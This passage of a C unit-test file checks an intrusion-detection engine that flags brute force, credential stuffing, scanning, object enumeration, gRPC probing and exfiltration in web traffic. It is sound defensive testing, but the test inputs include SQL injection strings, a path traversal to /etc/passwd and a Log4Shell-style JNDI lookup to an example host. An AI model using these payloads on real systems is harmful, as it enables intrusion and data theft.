	verdict_free(v);
	rules_free(r);
}

static void brute_force_on_login_only(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	int n;

	(void)state;
	conn_ip(0, "10.213.3.3", 42);
	for (int i = 0; i < 30; i++) {
		http(&conns[0], "GET", "/api/orders", NULL, 403);
		assert_int_equal(judge(v, T0 + i * SEC), 0);
	}
	for (int i = 0; i < 10; i++) {
		http(&conns[0], "POST", "/api/v1/auth/login", NULL, 401);
		body("application/x-www-form-urlencoded", "username=admin&password=x");
		n = judge(v, T0 + 31 * SEC + i * SEC);
		assert_int_equal(n, i == 9 ? 1 : 0);
	}
	assert_string_equal(out[0].rule, "brute_force");
	assert_int_equal(out[0].action, VERDICT_BLOCK);
	assert_true(out[0].block_ttl_ns == 300 * SEC);
	verdict_free(v);
	rules_free(r);
}

static void credential_stuffing_counts_distinct_users(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	char b[64];
	int n = 0;

	(void)state;
	conn_ip(0, "10.213.3.4", 43);
	for (int i = 0; i < 5; i++) {
		http(&conns[0], "POST", "/signin", NULL, 401);
		snprintf(b, sizeof(b), "{\"email\": \"user%d@example.com\", \"password\": \"p\"}", i);
		body("application/json", b);
		n = judge(v, T0 + i * SEC);
		if (i < 4)
			assert_int_equal(n, 0);
	}
	assert_non_null(find(n, "credential_stuffing"));
	/* one user failing often is not stuffing */
	conn_ip(1, "10.213.3.5", 44);
	for (int i = 0; i < 9; i++) {
		http(&conns[1], "POST", "/signin", NULL, 401);
		body("application/json", "{\"email\": \"me@example.com\", \"password\": \"p\"}");
		assert_int_equal(judge(v, T0 + i * SEC), 0);
	}
	verdict_free(v);
	rules_free(r);
}

static void scanning_distinct_404_paths(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	char p[64];
	int n;

	(void)state;
	conn_ip(0, "10.213.3.6", 45);
	/* the same missing favicon a hundred times is no scan */
	for (int i = 0; i < 100; i++) {
		http(&conns[0], "GET", "/favicon.ico", NULL, 404);
		assert_int_equal(judge(v, T0 + i * 100 * MS), 0);
	}
	for (int i = 0; i < 20; i++) {
		/* not /.git/: that is a restricted file (path_traversal) */
		snprintf(p, sizeof(p), "/backup/%d/config", i);
		http(&conns[0], "GET", p, NULL, 404);
		n = judge(v, T0 + 11 * SEC + i * MS);
		/* favicon counts as one distinct path too */
		assert_int_equal(n, i == 18 ? 1 : 0);
		if (n) {
			assert_string_equal(out[0].rule, "scanning");
			assert_int_equal(out[0].action, VERDICT_BLOCK);
		}
	}
	/* spread over more than the window: nothing */
	conn_ip(1, "10.213.3.7", 46);
	for (int i = 0; i < 60; i++) {
		snprintf(p, sizeof(p), "/missing/%d", i);
		http(&conns[1], "GET", p, NULL, 404);
		assert_int_equal(judge(v, T0 + (uint64_t)i * 4 * SEC), 0);
	}
	verdict_free(v);
	rules_free(r);
}

static void bola_many_ids_one_template(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	char p[64];
	int n = 0;

	(void)state;
	conn_ip(0, "10.213.3.8", 47);
	for (int i = 1; i <= 50; i++) {
		snprintf(p, sizeof(p), "/api/invoices/%d", 1000 + i);
		http(&conns[0], "GET", p, NULL, 200);
		hdr("authorization", "Bearer " JWT_ALICE);
		n = judge(v, T0 + i * 100 * MS);
		if (i < 50)
			assert_int_equal(n, 0);
	}
	assert_int_equal(n, 1);
	assert_string_equal(out[0].rule, "bola");
	assert_int_equal(out[0].action, VERDICT_ALERT);
	/* keyed by the identity: the token's sub, hashed */
	assert_int_equal(strncmp(out[0].client_key, "id:", 3), 0);
	assert_non_null(strstr(out[0].reason, "/api/invoices/{id}"));
	/* the same few objects fetched again and again: nothing */
	conn_ip(1, "10.213.3.9", 48);
	for (int i = 0; i < 500; i++) {
		snprintf(p, sizeof(p), "/api/invoices/%d", i % 5);
		http(&conns[1], "GET", p, NULL, 200);
		assert_int_equal(judge(v, T0 + 20 * SEC + (uint64_t)i * 100 * MS), 0);
	}
	verdict_free(v);
	rules_free(r);
}

static struct sess_event *grpc(const struct sess_conn *c, const char *svc, const char *rpc, int gs)
{
	sess_event_init(&ev, SESS_PROTO_GRPC, c);
	snprintf(ev.method, sizeof(ev.method), "POST");
	snprintf(ev.authority, sizeof(ev.authority), "grpc.test");
	snprintf(ev.path, sizeof(ev.path), "/%s/%s", svc, rpc);
	snprintf(ev.service, sizeof(ev.service), "%s", svc);
	snprintf(ev.rpc, sizeof(ev.rpc), "%s", rpc);
	ev.status = 200;
	ev.grpc_status = gs;
	return &ev;
}

static void grpc_unimplemented_burst_and_reflection(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	char m[32];
	int n = 0;

	(void)state;
	conn_ip(0, "10.213.4.1", 50);
	for (int i = 0; i < 20; i++) {
		snprintf(m, sizeof(m), "Guess%d", i);
		grpc(&conns[0], "shop.Admin", m, 12);
		n = judge(v, T0 + i * MS);
		if (i < 19)
			assert_int_equal(n, 0);
	}
	assert_non_null(find(n, "grpc_unimplemented"));
	grpc(&conns[0], "grpc.reflection.v1alpha.ServerReflection", "ServerReflectionInfo", 0);
	n = judge(v, T0 + SEC);
	assert_non_null(find(n, "grpc_reflection"));
	/* ordinary calls with ordinary errors */
	conn_ip(1, "10.213.4.2", 51);
	for (int i = 0; i < 100; i++) {
		grpc(&conns[1], "shop.Cart", "Get", i % 10 == 0 ? 5 : 0);
		body(NULL, "\x0a\x05hello\x12\x0bsome string");
		assert_int_equal(judge(v, T0 + i * 50 * MS), 0);
	}
	verdict_free(v);
	rules_free(r);
}

static void grpc_message_strings_are_scanned(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	static const char msg[] = "\x0a\x16" "1' or '1'='1' -- dump!" "\x10\x01";

	(void)state;
	grpc(conn_ip(0, "10.213.4.3", 52), "shop.Search", "Find", 0);
	sess_add_body(&ev, msg, sizeof(msg) - 1);
	assert_non_null(find(judge(v, T0), "sqli"));
	verdict_free(v);
	rules_free(r);
}

static void exfiltration_above_learned_baseline(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	char p[64];
	int n;

	(void)state;
	conn_ip(0, "10.213.5.1", 60);
	srand(7);
	for (int i = 0; i < 200; i++) {
		snprintf(p, sizeof(p), "/api/reports/%d", i);
		http(&conns[0], "GET", p, NULL, 200);
		ev.resp_bytes = 200000 + (uint64_t)(rand() % 50000);
		/* a distinct client per request: no BOLA here */
		conns[0].client_addr[3] = (uint8_t)i;
		assert_int_equal(judge(v, T0 + (uint64_t)i * SEC), 0);
	}
	http(&conns[0], "GET", "/api/reports/999", NULL, 200);
	ev.resp_bytes = 260000; /* a bit larger: fine */
	assert_int_equal(judge(v, T0 + 300 * SEC), 0);
	http(&conns[0], "GET", "/api/reports/1000", NULL, 200);
	ev.resp_bytes = 50u << 20;
	n = judge(v, T0 + 301 * SEC);
	assert_int_equal(n, 1);
	assert_string_equal(out[0].rule, "exfiltration");
	/* before warm-up a big answer says nothing */
	http(&conns[0], "GET", "/api/exports/1", NULL, 200);
	ev.resp_bytes = 50u << 20;
	assert_int_equal(judge(v, T0 + 302 * SEC), 0);
	verdict_free(v);
	rules_free(r);
}

/* --- bounds, stats, JSON ----------------------------------------------------------- */

static void client_state_bounded_with_evictions(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v;
	struct verdict_stats st;
	char ip[32];

	(void)state;
	r->max_clients = 16;
	v = verdict_new(r);
	for (int i = 0; i < 100; i++) {
		snprintf(ip, sizeof(ip), "10.213.6.%d", i);
		http(conn_ip(0, ip, (uint64_t)i), "GET", "/x", NULL, 404);
		judge(v, T0 + i * MS);
	}
	verdict_get_stats(v, &st);
	assert_int_equal(st.clients, 16);
	assert_int_equal(st.client_evictions, 84);
	assert_int_equal(st.events, 100);
	/* each live client holds one 404 set of 8 entries; evicted ones gave theirs back */
	assert_int_equal(st.set_bytes, 16 * 8 * sizeof(struct win_set_ent));
	verdict_free(v);
	rules_free(r);
}

static void verdict_json_fields(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	char buf[1024];
	struct json_buf jb;

	(void)state;
	r->enforce = 0;
	http(conn_ip(0, "10.213.2.2", 1), "GET", "/items", "id=1' or '1'='1", 200);
	assert_int_equal(judge(v, T0), 1);
	json_init(&jb, buf, sizeof(buf));
	json_obj_open(&jb);
	verdict_json_put(&jb, &out[0]);
	json_obj_close(&jb);
	assert_non_null(strstr(buf, "\"rule\":\"sqli\""));
	assert_non_null(strstr(buf, "\"severity\":\"high\""));
	assert_non_null(strstr(buf, "\"action\":\"alert\""));
	assert_non_null(strstr(buf, "\"wanted\":\"kill\""));
	assert_non_null(strstr(buf, "\"client\":\"ip:10.213.2.2\""));
	assert_non_null(strstr(buf, "\"reason\":\"sqli in query"));
	verdict_free(v);
	rules_free(r);
}

static void max_bounds_output(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	struct verdict_stats st;

	(void)state;
	http(conn_ip(0, "10.213.2.2", 1), "GET", "/items", "id=1' or '1'='1&f=../../../../etc/passwd", 200);
	hdr("user-agent", "${jndi:ldap://x.example/a}");
	assert_int_equal(verdict_judge(v, &ev, T0, out, 1), 1);
	verdict_get_stats(v, &st);
	assert_true(st.dropped >= 2);
	assert_int_equal(verdict_judge(v, &ev, T0, NULL, 0), 0);
	verdict_free(v);
	rules_free(r);
}

/* --- benign stream ------------------------------------------------------------- */

static const char *const words[] = {
	"pizza", "O'Brien", "\"quoted phrase\"", "rock & roll", "C++ tutorial", "50% off",
	"select a plan", "drop by anytime", "it's fine", "1 or 2 items", "price < 5",
	"email@example.com", "#hashtag", "path/to/file", "new york", "<3 cats",
};

static void benign_stream_gives_no_verdict(void **state)
{
	struct rules *r = rules_enforce();
	struct verdict_engine *v = verdict_new(r);
	char p[256], q[256], b[512], ip[32], cookie[64];
	uint64_t t = T0;
	int total = 0;

	(void)state;
	srand(12345);
	for (int i = 0; i < 20000; i++) {
		int client = rand() % 200;
		int kind = rand() % 10;
		int n;

		snprintf(ip, sizeof(ip), "10.213.%d.%d", 10 + client / 250, 1 + client % 250);
		conn_ip(0, ip, (uint64_t)client * 1000 + (uint64_t)(i % 7));
		t += 3 * MS; /* ~330 req/s over 200 clients */
		switch (kind) {
		case 0: /* search with quotes */
			snprintf(q, sizeof(q), "q=%s&page=%d", words[rand() % 16], rand() % 5);
			http(&conns[0], "GET", "/search", q, 200);
			break;
		case 1: /* JSON body */
			snprintf(b, sizeof(b),
				 "{\"name\": \"%s\", \"qty\": %d, \"tags\": [\"a\", \"b\"], \"note\": \"%s\"}",
				 words[rand() % 16], rand() % 10, words[rand() % 16]);
			http(&conns[0], "POST", "/api/orders", NULL, 201);
			body("application/json", b);
			break;
		case 2: /* objects, a handful per client */
			snprintf(p, sizeof(p), "/api/users/%d/orders/%d", client, rand() % 8);
			http(&conns[0], "GET", p, NULL, 200);
			break;
		case 3: /* static assets */
			snprintf(p, sizeof(p), "/static/%s", rand() % 2 ? "app.js" : "style.css");
			http(&conns[0], "GET", p, NULL, 200);
			ev.resp_bytes = 80000;
			break;
		case 4: /* an occasional 404 */
			snprintf(p, sizeof(p), "/blog/post-%d", rand() % 3);
			http(&conns[0], "GET", p, NULL, rand() % 20 ? 200 : 404);
			break;
		case 5: /* login, mostly right, the odd typo */
			http(&conns[0], "POST", "/login", NULL, rand() % 8 ? 200 : 401);
			snprintf(b, sizeof(b), "username=user%d&password=pw%%27s+%d", client, rand());
			body("application/x-www-form-urlencoded", b);
			break;
		default: /* authenticated API calls with a JWT and cookies */
			snprintf(p, sizeof(p), "/api/v2/items/%d", rand() % 3);
			http(&conns[0], "GET", p, "fields=id,name&sort=-created_at", 200);
			/* a few clients share alice's JWT; the rest have their own token */
			if (client < 3) {
				hdr("authorization", "Bearer " JWT_ALICE);
			} else {
				snprintf(b, sizeof(b), "Bearer opaque-token-%d-7f3a9c", client);
				hdr("authorization", b);
			}
			snprintf(cookie, sizeof(cookie), "session=s%d; theme=dark", client);
			hdr("cookie", cookie);
			hdr("user-agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15");
			hdr("referer", "https://app.example.com/items?tab=all&q=it's");
			ev.resp_bytes = 1000 + (uint64_t)(rand() % 4000);
			break;
		}
		n = judge(v, t);
		for (int k = 0; k < n; k++)
			fprintf(stderr, "benign #%d -> %s: %s [%s]\n", i, out[k].rule, out[k].reason, out[k].client_key);
		total += n;
	}
	assert_int_equal(total, 0);
	verdict_free(v);
	rules_free(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(payload_attacks_positive_and_negative),
		cmocka_unit_test(payload_cookie_crumbs_judged_joined),
		cmocka_unit_test(payload_min_score_and_disable),
		cmocka_unit_test(websocket_message_prefix_judged_once_per_conn),
		cmocka_unit_test(payload_repeats_escalate_to_block),
		cmocka_unit_test(payload_escalation_configurable_per_rule),
		cmocka_unit_test(monitor_mode_turns_kill_into_alert),
		cmocka_unit_test(allowlist_never_blocked_or_killed),
		cmocka_unit_test(smuggling_kills_once_per_connection),
		cmocka_unit_test(oversize_is_alert_low),
		cmocka_unit_test(h2_rapid_reset_needs_many_then_blocks),
		cmocka_unit_test(websocket_abuse_and_origin),
		cmocka_unit_test(evasion_from_unclassified),
		cmocka_unit_test(window_judged_on_its_own_bytes),
		cmocka_unit_test(slowloris_after_timeout_once),
		cmocka_unit_test(rate_burst_blocks_at_threshold),
		cmocka_unit_test(rate_below_threshold_quiet),
		cmocka_unit_test(brute_force_on_login_only),
		cmocka_unit_test(credential_stuffing_counts_distinct_users),
		cmocka_unit_test(scanning_distinct_404_paths),
		cmocka_unit_test(ipv6_prefix_counts_and_blocks_the_prefix),
		cmocka_unit_test(bola_many_ids_one_template),
		cmocka_unit_test(grpc_unimplemented_burst_and_reflection),
		cmocka_unit_test(grpc_message_strings_are_scanned),
		cmocka_unit_test(exfiltration_above_learned_baseline),
		cmocka_unit_test(client_state_bounded_with_evictions),
		cmocka_unit_test(verdict_json_fields),
		cmocka_unit_test(max_bounds_output),
		cmocka_unit_test(benign_stream_gives_no_verdict),
		cmocka_unit_test(template_of_the_last_event),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
